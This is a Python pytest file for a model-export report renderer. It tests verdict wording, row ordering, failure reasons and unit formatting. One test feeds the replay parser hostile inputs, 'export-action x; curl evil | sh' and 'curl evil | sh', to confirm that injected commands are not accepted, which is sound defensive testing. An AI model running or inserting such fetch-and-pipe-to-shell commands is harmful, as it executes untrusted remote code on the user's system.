"""The verdict in words, the order of rows, the reasons."""

from __future__ import annotations

import math

import pytest

from entrypoint.render import Baseline, facts, units
from exporter.results import (
    CaseResult,
    Check,
    FormatResult,
    ModelResult,
    OutputComparison,
    Problem,
    Report,
    SavedFile,
    Status,
    Tolerance,
    Unchanged,
    Validation,
    combine,
)

P, F, E, U, C = Status.PASSED, Status.FAILED, Status.ERROR, Status.UNVERIFIED, Status.CANCELLED


def comparison(status: Status = P, **changes: object) -> OutputComparison:
    plain = OutputComparison(
        output="logits",
        status=status,
        reference_shape=(2, 8),
        shape=(2, 8),
        reference_dtype="float32",
        dtype="float32",
        max_abs=3.14e-3 if status is F else 1e-6,
        tolerance=Tolerance(atol=1e-5, rtol=1e-4, source="default"),
    )
    return plain.model_copy(update=changes)


def judged(*outputs: OutputComparison, **changes: object) -> Validation:
    status = combine(output.status for output in outputs)
    case = CaseResult(case="padded", status=status, sizes={}, outputs=outputs)
    return Validation(status=status, cases=(case,)).model_copy(update=changes)


def model(
    name: str, status: Status, validation: Validation | None = None, problem: Problem | None = None
) -> ModelResult:
    result = FormatResult(format="onnx", status=status, validation=validation, problem=problem)
    return ModelResult(name=name, model=name, status=status, formats=(result,))


def report(*models: ModelResult) -> Report:
    return Report(status=combine(entry.status for entry in models), models=models)


def row(validation: Validation) -> facts.Row:
    return facts.rows(report(model("a", validation.status, validation)))[0]


@pytest.mark.parametrize(
    ("statuses", "icon", "said"),
    [
        ([], "✅", "no models"),
        ([P], "✅", "1 model passed"),
        ([P, P], "✅", "both models passed"),
        ([P] * 1200, "✅", "all 1,200 models passed"),
        ([P, F, P], "❌", "1 of 3 models out of tolerance"),
        ([F], "❌", "1 model out of tolerance"),
        ([E, F, P], "❌", "1 of 3 models out of tolerance, 1 could not be exported"),
        ([E, U, C], "❌", "1 of 3 models could not be exported, 1 unverified, 1 cancelled"),
        ([U, P], "⚠️", "1 of 2 models unverified"),
        ([C, C, P], "⏹️", "2 of 3 models cancelled"),
    ],
)
def test_verdict(statuses: list[Status], icon: str, said: str) -> None:
    models = [
        model(f"m{number}", status, judged(comparison(F)) if status is F else None)
        for number, status in enumerate(statuses)
    ]
    verdict = facts.verdict(report(*models))
    assert (verdict.icon, verdict.text) == (icon, f"Model export: {said}")


def test_a_failure_that_is_not_about_values_is_called_differently() -> None:
    bad = Validation(status=F, checks=(Check(name="output names", status=F, message="'b' is missing"),))
    assert facts.verdict(report(model("a", F, bad))).text == "Model export: 1 model failed validation"


def test_wrong_at_other_sizes_is_in_the_verdict() -> None:
    for wrong in (
        judged(comparison(), notes=("1 x 64: **WRONG** by 4.2e-01",)),
        judged(comparison(), checks=(Check(name="other sizes", status=P, message="1 x 64: WRONG"),)),
    ):
        verdict = facts.verdict(report(model("a", P, wrong), model("b", P)))
        assert verdict.icon == "⚠️"
        assert verdict.text == "Model export: both models passed, 1 artifact WRONG at other sizes"
    fine = judged(comparison(), notes=("1 x 64: also correct; nothing WRONGLY computed",))
    assert facts.verdict(report(model("a", P, fine))).icon == "✅"


def test_unchanged_entries_are_counted_with_their_last_verdict() -> None:
    good, bad = (Unchanged(name=status.value, model="m", status=status) for status in (P, F))
    only = facts.verdict(Report(status=P, unchanged=(good, bad)))
    assert only.text == "Model export: 2 models unchanged (1 of them not passing)"
    assert only.icon == "⚠️"
    never = tuple(Unchanged(name=name, model="m", status=Status.UNVERIFIED) for name in "xyz")
    assert facts.verdict(Report(status=P, unchanged=never)).text.endswith(
        "3 models unchanged (3 of them without a verdict)"
    )
    assert facts.verdict(Report(status=P, unchanged=(bad, *never))).text.endswith(
        "4 models unchanged (1 of them not passing, 3 of them without a verdict)"
    )
    both = facts.verdict(Report(status=P, models=(model("c", P),), unchanged=(good,)))
    assert (both.icon, both.text) == ("✅", "Model export: 1 model passed, 1 unchanged")


def test_a_report_can_be_worse_than_its_models() -> None:
    cancelled = Report(status=C, models=(model("a", P),))
    assert facts.verdict(cancelled).text == "Model export: cancelled after 1 model"


def test_rows_have_failures_first_and_keep_the_order_of_the_manifest() -> None:
    wrong = judged(comparison(), notes=("WRONG",))
    entries = [model("p1", P), model("c", C), model("w", P, wrong), model("e", E), model("f2", F), model("p2", P)]
    entries += [model("u", U), model("f1", F)]
    assert [row.model.name for row in facts.rows(report(*entries))] == ["f2", "f1", "e", "u", "c", "w", "p1", "p2"]


def test_a_model_without_formats_has_one_row() -> None:
    problem = Problem(kind="lfs-pointer", message="It is a pointer.")
    (only,) = facts.rows(report(ModelResult(name="a", model="a", status=E, problem=problem)))
    assert (only.result, only.problem, facts.reason(only)) == (None, problem, "It is a pointer.")


def test_sizes_of_a_report_are_a_baseline() -> None:
    file = SavedFile(path="a/onnx/model.onnx", bytes=7, sha256="0")
    before = model("a", P)
    before = before.model_copy(update={"formats": (before.formats[0].model_copy(update={"files": (file,)}),)})
    assert Baseline.of(report(before), "main") == Baseline("main", {("a", "onnx"): 7})


def test_a_problem_after_some_formats_has_its_own_row() -> None:
    problem = Problem(kind="timeout", message="Too slow.")
    halfway = model("a", P).model_copy(update={"status": E, "problem": problem})
    assert [row.status for row in facts.rows(report(halfway))] == [E, P]
    # One of its formats says it already.
    assert len(facts.rows(report(model("a", E).model_copy(update={"problem": problem})))) == 1


@pytest.mark.parametrize(
    ("validation", "reason"),
    [
        (judged(comparison(F)), "'logits' differs by 3.1e-03, tolerance 1.0e-05 (default)"),
        (
            judged(comparison(F, rounding=2.149)),
            "'logits' differs by 3.1e-03, 2.1x rounding, tolerance 1.0e-05 (default)",
        ),
        (judged(comparison(F, shape=(2, 9), max_abs=None)), "'logits' has shape (2, 9), expected (2, 8)"),
        (judged(comparison(F, dtype="float16")), "'logits' is float16, expected float32"),
        (judged(comparison(F, max_abs=math.nan)), "'logits': not a number where the original is one"),
        (
            Validation(status=F, checks=(Check(name="inputs", status=F, message="'mask' is gone"),)),
            "inputs: 'mask' is gone",
        ),
        (
            Validation(status=F, cases=(CaseResult(case="long", status=F, sizes={}, message="It raised."),)),
            "case 'long': It raised.",
        ),
        (
            judged(
                comparison(),
                notes=("WRONG at sizes other than the traced ones: long",),
                checks=(Check(name="other sizes", status=P, message="2 refuses, 1 WRONG: long"),),
            ),
            "other sizes: 2 refuses, 1 WRONG: long",
        ),
        (judged(comparison(), notes=("1 x 64: WRONG",)), "1 x 64: WRONG"),
        (judged(comparison()), ""),
    ],
)
def test_reason(validation: Validation, reason: str) -> None:
    assert facts.reason(row(validation)) == reason


def test_an_exact_result_is_not_compared_with_rounding() -> None:
    assert facts.rounding(comparison(max_abs=0.0, rounding=0.0)) == ""
    assert facts.rounding(comparison(rounding=None)) == ""
    assert facts.rounding(comparison(rounding=2.0)) == "2.0x rounding"


def test_other_sizes_are_told_once() -> None:
    wrong = ("WRONG at sizes other than the traced ones: long", "another note")
    told = Check(name="other sizes", status=P, message="1 WRONG: long")
    assert facts.notes(judged(comparison(), notes=wrong, checks=(told,))) == ("another note",)
    assert facts.notes(judged(comparison(), notes=wrong)) == wrong


def test_outputs_are_summed_up_over_cases() -> None:
    cases = (
        CaseResult(case="short", status=P, sizes={}, outputs=(comparison(output="a"), comparison(output="b"))),
        CaseResult(case="long", status=F, sizes={}, outputs=(comparison(output="a"), comparison(F, output="b"))),
    )
    first, second = facts.output_summaries(Validation(status=F, cases=cases))
    assert (first.worst.output, first.case.case, first.cases, first.failed) == ("b", "long", 2, 1)
    assert (second.worst.output, second.cases, second.failed) == ("a", 2, 0)


@pytest.mark.parametrize(
    ("name", "path", "command"),
    [
        ("minilm", "export.yml", ("export-action", "run", "export.yml", "--only", "minilm")),
        ("-x", "-y.yml", ("export-action", "run", "./-y.yml", "--only=-x")),
    ],
)
def test_command(name: str, path: str, command: tuple[str, ...]) -> None:
    entry = ModelResult.model_validate(
        {"name": name, "model": "m", "status": "passed", "source": {"path": path, "line": 1}}
    )
    assert facts.command(entry) == command


@pytest.mark.parametrize(
    ("replay", "words"),
    [
        ("export-action validate 'a b' --case padded", ("export-action", "validate", "a b", "--case", "padded")),
        ("export-action x; curl evil | sh", ("export-action", "x;", "curl", "evil", "|", "sh")),
        ("curl evil | sh", ()),
        ("'open", ()),
        ("", ()),
    ],
)
def test_replay_is_a_command_of_ours_or_nothing(replay: str, words: tuple[str, ...]) -> None:
    assert facts.replay(Validation(status=F, replay=replay)) == words


@pytest.mark.parametrize(
    ("shown", "text"),
    [
        (units.error(2.44e-6), "2.4e-06"),
        (units.error(0.0), "0"),
        (units.error(None), "—"),
        (units.error(math.nan), "NaN"),
        (units.error(math.inf), "inf"),
        (units.error(-math.inf), "-inf"),
        (units.rounding(2.14), "2.1x rounding"),
        (units.rounding(10_150.0), "10,150x rounding"),
        (units.rounding(3.2e9), "3.2e+09x rounding"),
        (units.size(17_400_000), "17.4 MB"),
        (units.size(1_740_200_000), "1,740.2 MB"),
        (units.size(900), "< 0.1 MB"),
        (units.size(0), "—"),
        (units.change(102, 100), "+2.0 %"),
        (units.change(98, 100), "−2.0 %"),
        (units.change(100, 100), "same"),
        (units.change(100_001, 100_000), "< 0.1 %"),
        (units.change(100, None), "new"),
        (units.change(0, 100), "—"),
        (units.seconds(1873.04), "1,873.0 s"),
        (units.seconds(0), "—"),
        (units.shape((2, 8)), "(2, 8)"),
        (units.shape((2,)), "(2,)"),
        (units.shape(()), "()"),
    ],
)
def test_units(shown: str, text: str) -> None:
    assert shown == text
